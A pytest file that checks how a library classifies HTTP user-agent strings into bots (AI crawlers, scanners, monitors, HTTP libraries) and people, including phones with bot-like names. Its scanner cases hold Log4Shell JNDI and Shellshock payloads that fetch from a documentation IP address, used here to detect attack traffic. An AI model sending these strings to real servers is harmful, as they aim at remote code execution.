from __future__ import annotations

import random
import re

import crawleruseragents
import pytest

from tidemark.parse.bots import (
    _SELF_DECLARED,
    KINDS,
    OTHER_KIND,
    PERSON,
    PURPOSES,
    Bot,
    _any_pattern,
    _own,
    bot_of,
    kind_of,
    purpose_by_name,
)
from tidemark.parse.lists import rows
from tidemark.parse.networks import FORGED, verified

CHROME = "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
ON_CHROME = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {}) Chrome/142.0.0.0 Safari/537.36"
)


@pytest.mark.parametrize(
    "user_agent, expected",
    [
        (ON_CHROME.format("GPTBot/1.2; +https://openai.com/gptbot"), Bot("GPTBot", "ai-crawler", "training")),
        (ON_CHROME.format("OAI-SearchBot/1.0"), Bot("OAI-SearchBot", "ai-crawler", "search")),
        (ON_CHROME.format("ChatGPT-User/1.0"), Bot("ChatGPT-User", "ai-crawler", "assistant")),
        (ON_CHROME.format("ClaudeBot/1.0"), Bot("ClaudeBot", "ai-crawler", "training")),
        ("claudebot", Bot("claudebot", "ai-crawler", "training")),
        (ON_CHROME.format("Claude-User/1.0"), Bot("Claude-User", "ai-crawler", "assistant")),
        (ON_CHROME.format("Claude-SearchBot/1.0"), Bot("Claude-SearchBot", "ai-crawler", "search")),
        (ON_CHROME.format("PerplexityBot/1.0"), Bot("PerplexityBot", "ai-crawler", "search")),
        (ON_CHROME.format("Perplexity-User/1.0"), Bot("Perplexity-User", "ai-crawler", "assistant")),
        (ON_CHROME.format("MistralAI-User/1.0"), Bot("MistralAI-User", "ai-crawler", "assistant")),
        ("meta-externalagent/1.1", Bot("meta-externalagent", "ai-crawler", "training")),
        ("DuckAssistBot/1.2", Bot("DuckAssistBot", "ai-crawler", "assistant")),
        ("CCBot/2.0 (https://commoncrawl.org/faq/)", Bot("CCBot", "ai-crawler", "training")),
        ("Mozilla/5.0 (Macintosh) (Amazonbot/0.1)", Bot("Amazonbot", "search-engine", "training")),
        ("Google-Extended", Bot("Google-Extended", "ai-crawler", None)),
        # Own entries.
        (ON_CHROME.format("OAI-AdsBot/1.0"), Bot("OAI-AdsBot", "advertising", None)),
        (ON_CHROME.format("Kimi-User/1.0"), Bot("Kimi-User", "ai-crawler", "assistant")),
        ("bedrockbot-7f3a", Bot("bedrockbot", "ai-crawler", "search")),
        ("Meta-ExternalAgent/1.1", Bot("Meta-ExternalAgent", "ai-crawler", "training")),
        ("Mozilla/5.0 (compatible; YandexAdditionalBot/3.0; +http://yandex.com/bots)",
         Bot("YandexAdditionalBot", "ai-crawler", "search")),
        ("kube-probe/1.31", Bot("kube-probe", "monitoring", None)),
        ("ELB-HealthChecker/2.0", Bot("ELB-HealthChecker", "monitoring", None)),
        ("Apache/2.4.58 (Ubuntu) (internal dummy connection)", Bot("internal dummy connection", "monitoring", None)),
        ("Fuzz Faster U Fool v2.1.0-dev", Bot("Fuzz Faster U Fool", "scanner", None)),
        ("python-urllib3/2.2.1", Bot("python-urllib3", "http-library", None)),
        ("Java/1.8.0_311", Bot("Java", "http-library", None)),
        # A purpose of an own entry, a kind of the package.
        ("meta-webindexer/1.1", Bot("meta-webindexer", "social-preview", "search")),
        ("Mozilla/5.0 zgrab/0.x", Bot("zgrab", "scanner", None)),
        ("Mozilla/5.0 (compatible; AhrefsBot/7.0)", Bot("AhrefsBot", "seo", None)),
        ("Mozilla/5.0+(compatible; UptimeRobot/2.0)", Bot("UptimeRobot", "monitoring", None)),
        ("facebookexternalhit/1.1", Bot("facebookexternalhit", "social-preview", None)),
        ("Feedly/1.0", Bot("Feedly", "feed-reader", None)),
        ("python-requests/2.32.3", Bot("python-requests", "http-library", None)),
        # The character that a pattern demands behind the name belongs to the match.
        ("AdsBot-Google (+http://www.google.com/adsbot.html)", Bot("AdsBot-Google", "advertising", None)),
        # Of "Googlebot/" and "Googlebot-Image", only the second matches; of two names the longer one wins.
        ("Googlebot-Image/1.0", Bot("Googlebot-Image", "search-engine", None)),
        ("curl/8.5.0 Googlebot/2.1", Bot("Googlebot", "search-engine", None)),
    ],
)  # fmt: skip
def test_a_bot_has_name_kind_and_purpose(user_agent: str, expected: Bot) -> None:
    assert bot_of(user_agent) == expected


@pytest.mark.parametrize(
    "user_agent, name",
    [
        ("FooBot/1.0 (+https://www.example.org/bot)", "FooBot"),
        ("Mozilla/5.0 (compatible; foo-spider/v2; +https://www.example.org/)", "foo-spider"),
        ("Mozilla/5.0 (iPhone; CPU iPhone OS 8_3 like Mac OS X) (compatible; googlebot/2.1)", "googlebot"),
        ("example crawler/1.0", "crawler"),
    ],
)
def test_who_calls_itself_a_bot_is_one(user_agent: str, name: str) -> None:
    assert bot_of(user_agent) == Bot(name, OTHER_KIND, None)


@pytest.mark.parametrize(
    "user_agent, name, kind",
    [
        ("Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.19041", "PowerShell", "http-library"),
        ("Mozilla/5.0 (Linux; Ubuntu 22.04.3 LTS; en-US) PowerShell/7.4.1", "PowerShell", "http-library"),
        ("Go 1.1 package http", "Go 1.1 package http", "http-library"),
        ("go-http-client/1.1", "go-http-client", "http-library"),
        ("http.rb/4.2.0", "http.rb", "http-library"),
        ("unirest-java/1.3.11", "unirest-java", "http-library"),
        ("PHP/7.0.0", "PHP", "http-library"),
        ("Dart/3.5 (dart:io)", "Dart", "http-library"),
        ("node-superagent/5.0.2", "node-superagent", "http-library"),
        ("Node.js/20", "Node.js", "http-library"),
        ("undici/6.0", "undici", "http-library"),
        ("undici", "undici", "http-library"),
        ("Apache-HttpAsyncClient/4.1.3 (Java/1.8.0_121)", "Apache-HttpAsyncClient", "http-library"),
        ("Jakarta Commons-HttpClient/3.1", "Jakarta Commons-HttpClient", "http-library"),
        ("HTTPClient/1.0 (2.8.3, ruby 2.7.0 (2019-12-25))", "HTTPClient", "http-library"),
        ("urllib3/2.0.4", "urllib3", "http-library"),
        ("Python-httplib2/0.20.4 (gzip)", "Python-httplib2", "http-library"),
        ("Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)", "WinHttp.WinHttpRequest", "http-library"),
        ("Microsoft BITS/7.8", "Microsoft BITS", "http-library"),
        ("Symfony BrowserKit", "Symfony BrowserKit", "http-library"),
        ("Mozilla/5.0 (X11) AppleWebKit/534.34 wkhtmltopdf Safari/534.34", "wkhtmltopdf", "browser-automation"),
        (f"{CHROME} Cypress/12.17", "Cypress", "browser-automation"),
        (f"{CHROME} Robot_Framework", "Robot_Framework", "browser-automation"),
        (f"{CHROME} PTST", "PTST", "monitoring"),
        ("Mozilla/5.0 (Windows NT 6.0; Neustar WPM) Firefox/38.0", "Neustar WPM", "monitoring"),
        ("Hetzner_System_Monitoring", "Hetzner_System_Monitoring", "monitoring"),
        ("Azure Traffic Manager Endpoint Monitor", "Azure Traffic Manager", "monitoring"),
        ("Mozilla/5.0 Jorgee", "Jorgee", "scanner"),
        ("l9tcpid/v1.1.0", "l9tcpid", "scanner"),
        ("libredtail-http", "libredtail-http", "scanner"),
        ("${jndi:ldap://192.0.2.1/a}", "${jndi", "scanner"),
        ("t('${${env:NaN:-j}ndi${env:NaN:-:}ldap://192.0.2.1/a}')", "${${", "scanner"),
        ('() { :; }; /bin/bash -c "wget http://192.0.2.1/a"', "() {", "scanner"),
        ("FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)", "FeedFetcher-Google", "feed-reader"),
        ("mediapartners-google", "mediapartners-google", "advertising"),
        (ON_CHROME.format("Bluesky Cardyb/1.1; +mailto:support@bsky.app"), "Bluesky Cardyb", "social-preview"),
        # A library inside a bot of another name.
        ("http.rb/3.2.0 (Mastodon/2.4.3; +https://mastodon.example/)", "Mastodon", "social-preview"),
        ("LinkedInBot/1.0 (compatible; Jakarta Commons-HttpClient/3.1)", "LinkedInBot", "social-preview"),
        ("Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)", "Feedly", "feed-reader"),
    ],
)  # fmt: skip
def test_programs_without_a_word_for_bots(user_agent: str, name: str, kind: str) -> None:
    assert bot_of(user_agent) == Bot(name, kind, None)


def test_fetchers_of_ai_companies_have_a_purpose() -> None:
    notebook = f"{CHROME} (compatible; Google-GeminiNotebook; +https://developers.google.com/crawling)"
    assert bot_of(notebook) == Bot("Google-GeminiNotebook", "ai-crawler", "assistant")
    index = ON_CHROME.format("MistralAI-Index/1.0; +https://docs.mistral.ai/robots")
    assert bot_of(index) == Bot("MistralAI-Index", "ai-crawler", "search")


@pytest.mark.parametrize(
    "user_agent",
    [
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 "
        "Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0",
        "facebookexternalhit/1.1;line-poker/1.0",
        "facebookexternalhit/1.1; kakaotalk-scrap/1.0; +https://devtalk.kakao.com/t/scrap/33984",
        "facebookexternalhit/1.1 (compatible; Blueno/1.0; +http://naver.me/scrap)",
    ],
)
def test_previews_of_other_apps_are_not_compared_with_the_networks_of_facebook(user_agent: str) -> None:
    """They add the names of Facebook's and Twitter's crawlers, as sites show these more."""
    bot = bot_of(user_agent)
    assert bot is not None and bot.kind == "social-preview"
    assert verified([bot.name, "facebookexternalhit"], ["203.0.113.9"] * 2) == [None, FORGED]


@pytest.mark.parametrize(
    "device", ["CUBOT_NOTE_S Build/NRD90M", "CUBOT ECHO", "M bot 60 Build/NRD90M", "BOT 550"]
)
def test_a_phone_whose_name_has_bot_in_it_is_no_bot(device: str) -> None:
    assert (
        bot_of(f"Mozilla/5.0 (Linux; Android 7.0; {device}) AppleWebKit/537.36 Chrome/142.0 Mobile") is None
    )


def test_people_are_no_bots() -> None:
    assert bot_of("") is None
    assert bot_of(ON_CHROME.format("Trident/7.0")) is None


PHONE = "Mozilla/5.0 (Linux; Android {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36{}"


@pytest.mark.parametrize(
    "device, app",
    [
        # Models whose names have the word.
        ("8.0.0; CUBOT_P20", ""), ("12; CUBOT TAB 10", ""), ("13; Cubot X30", ""), ("6.0; IDbot553 Build/MRA58K", ""),
        ("7.0; M bot 60 Build/NRD90M; wv", ""), ("6.0; B BOT 550 Build/MRA58K; wv", ""), ("6.0; VR BOT 552 PLUS", ""),
        ("7.0; C Bot Tab 100", ""), ("6.0; POWER BOT Build/MRA58K", ""), ("8.1.0; XBot_Senior Build/O11019", ""),
        ("13; Spider 8", ""), ("9; Robot 5", ""), ("10; Titan P8000 PRO 2021 Build/QP1A.190711.020; wv", ""),
        # Models, builds and apps that patterns of the package match.
        ("4.2.2; HTC Butterfly Build/JDQ39", ""), ("4.4.2; HTCButterflys901s Build/KOT49H", ""),
        ("4.4.2; ViewSonic V500 Build/KVT49L", ""), ("2.3.6; fr-fr; Cherry Sonic  Build/GRK39F", ""),
        ("5.1; O+ Sonic", ""), ("8.1.0; Fever_Plus_J", ""), ("8.0.0; Expanse", ""),
        ("15; CPH2557 Build/AP3A.240617.008; wv", " Instagram 406.0.0.58.159 Android (35/15; 480dpi; OPPO; CPH2557)"),
        ("16; Pixel 10 Build/CP1A.260305.018; wv", " MetaIAB Facebook"),
        ("7.1.2; G011A Build/N2G48H; wv", " Viber/11.9.5.8"),
        ("6.0.1; OPPO R9s Build/MMB29M; wv", " AWP/2.0 SogouMSE,SogouMobileBrowser/5.28.7"),
        ("7.1.2; MANN 8S Build/N2G47H; wv", " SogouSearch Android1.0 version3.0 AppVersion/7702"),
        # Browsers inside apps.
        ("14; SM-S918B Build/UP1A; wv", " [Pinterest/Android]"), ("13; Pixel 7", " Flipboard/4.3.15/5306,4.3.15.5306"),
        ("14; SM-A546B; wv", " trill_360105 AppName/musical_ly BytedanceWebview/d8a21c6"), ("14", " DuckDuckGo/5"),
        ("11; RMX1931; wv", " [FB_IAB/Orca-Android;FBAV/331.0.0.15.119;]"), ("12; Telegram-Android/10.14", ""),
    ],
)  # fmt: skip
def test_phones_and_apps_with_names_like_bots_are_people(device: str, app: str) -> None:
    user_agent = PHONE.format(device, app)
    assert bot_of(user_agent) is None
    # A bot may pose as such a phone.
    crawler = f"{user_agent} (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    assert bot_of(crawler) == Bot("Googlebot", "search-engine", None)


@pytest.mark.parametrize(
    "user_agent",
    [
        f"{CHROME} Sonic Slack_SSB/4.36.140",
        "Opera/9.80 (MAUI Runtime; Opera Mini/4.4.39008/37.9178; U; en) Presto/2.12.423 Version/12.16",
        "sprd-L008/1.0 Linux/2.6.35.7 Android/2.3.5 Release/09.10.2012 Browser/AppleWebKit533.1 Mozilla/5.0 Mobile",
        "Mozilla/5.0 (iPad; U; CPU iPhone OS 7_0 like Mac OS X; de-DE) WIRED/3.2.3.11.87970",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 14_7 like Mac OS X) Mobile/15E148 Safari/605.1 Blackboard/6.9",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 15_0 like Mac OS X) Mobile/15E148 Instapaper/8",
        "Mozilla/5.0 (Android 13; Mobile; rv:109.0) Gecko/112.0 Firefox/112.0 Freespoke/2.0.0",
        f"{CHROME} Viber",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Notion/2.0.23 Chrome/91.0 Electron/13.6.9 Safari/537.36",
        "Mozilla/5.0 (Windows NT 6.1) coccocbrowser/47.0 Chrome/41.0.2272.119coccoc Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 6_0 like Mac OS X) Mobile/10A403 SogouAndroidBrowser/2.6.1",
    ],
)
def test_apps_and_browsers_with_names_of_bots_are_people(user_agent: str) -> None:
    assert bot_of(user_agent) is None


def test_the_names_on_the_list_without_a_phone_are_bots() -> None:
    assert bot_of(
        "Mozilla/5.0 (compatible; Butterfly/1.0; +http://labs.topsy.com/butterfly/) Gecko/2009032608"
    )
    assert bot_of("Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)")
    assert bot_of("Fever/1.38 (Feed Parser; http://feedafever.com; Allow like Gecko)")
    assert bot_of("Viber") and bot_of("WhatsApp/2.23.20.0 A")


def test_the_first_of_equally_long_matches_in_the_list_wins() -> None:
    patterns = [crawler["pattern"] for crawler in crawleruseragents.CRAWLER_USER_AGENTS_DATA]
    assert patterns.index("GPTBot") < patterns.index("Amzn-User") and len("AI2Bot") == len("GPTBot")
    assert patterns.index("GPTBot") < patterns.index("AI2Bot")
    for user_agent in ("GPTBot AI2Bot", "AI2Bot GPTBot"):
        assert bot_of(user_agent) == Bot("GPTBot", "ai-crawler", "training")


@pytest.mark.parametrize("number", range(len(KINDS)))
def test_the_kind_is_the_first_tag_of_the_order(number: int) -> None:
    assert kind_of(list(reversed(KINDS[number:]))) == KINDS[number]
    assert kind_of(["new-tag"]) == kind_of([]) == OTHER_KIND


def test_instances_of_the_list_have_the_longest_match() -> None:
    data = crawleruseragents.CRAWLER_USER_AGENTS_DATA
    own = re.compile("|".join(pattern for pattern, *tags in OWN if tags[0]))
    instances = [instance for crawler in data[::40] for instance in crawler["instances"][:1]]
    for user_agent in (instance for instance in instances if not own.search(instance)):
        result = [(re.search(crawler["pattern"], user_agent), crawler) for crawler in data]
        longest = max(len(match[0]) for match, _ in result if match)
        match, crawler = next((m, crawler) for m, crawler in result if m and len(m[0]) == longest)
        bot = bot_of(user_agent)
        assert match is not None and bot is not None
        assert (bot.name, bot.kind) == (match[0].strip("/ "), kind_of(crawler["tags"]))


# Pattern, tags and purpose.
OWN = [(*row, "", "")[:3] for row in rows("bots_own.tsv")]


def test_own_entries_are_sound() -> None:
    patterns = [pattern for pattern, _, _ in OWN]
    assert len({*patterns}) == len(patterns)
    for pattern, tags, purpose in OWN:
        re.compile(pattern)
        assert {*tags.split(",")} <= {*KINDS, PERSON, ""} and purpose in (*PURPOSES, "") and (tags or purpose)
        # Purposes are looked up by the name of the bot, which is the text that its pattern matched.
        assert not purpose or re.fullmatch(pattern, pattern)


def test_own_bots_are_missing_in_the_package() -> None:
    missing = [pattern for pattern, tags, _ in OWN if tags and tags != PERSON]
    # Previews of other apps, which only add this name.
    missing = [pattern for pattern in missing if not pattern.startswith("facebookexternalhit/")]
    assert [name for name in missing if crawleruseragents.is_crawler(name.strip("^$/"))] == []


def test_each_name_has_one_purpose() -> None:
    assert purpose_by_name()["gptbot"] == "training"
    names = {pattern.lower(): purpose for pattern, _, purpose in OWN if purpose}
    assert all(names[pattern.lower()] == purpose for pattern, _, purpose in OWN if purpose)


def test_a_bot_is_what_any_pattern_matches_as_python_reads_it() -> None:
    """The matcher that looks for all of them at once is another engine."""
    own = [re.compile(pattern) for pattern, tags, *_ in _own() if tags and PERSON not in tags]
    patterns = [*own, _SELF_DECLARED]
    known = [each for bot in crawleruseragents.CRAWLER_USER_AGENTS_DATA for each in bot["instances"]]
    chance = random.Random(7)
    agents = [ON_CHROME.format(""), "", " ", "node", "node\\x0A", "a node", "NODE", *known]
    for agent in chance.sample(known, 1_000):
        place, other = chance.randrange(len(agent) + 1), chance.choice(known)
        agents.append(agent[:place] + chance.choice(("", " ", "é", "\\", other[place:])) + agent[place + 2 :])
        agents.append(agent[:place] + agent[place:].swapcase())
    for agent in agents:
        expected = crawleruseragents.is_crawler(agent) or any(each.search(agent) for each in patterns)
        assert (_any_pattern()(agent) is not None) == expected, agent
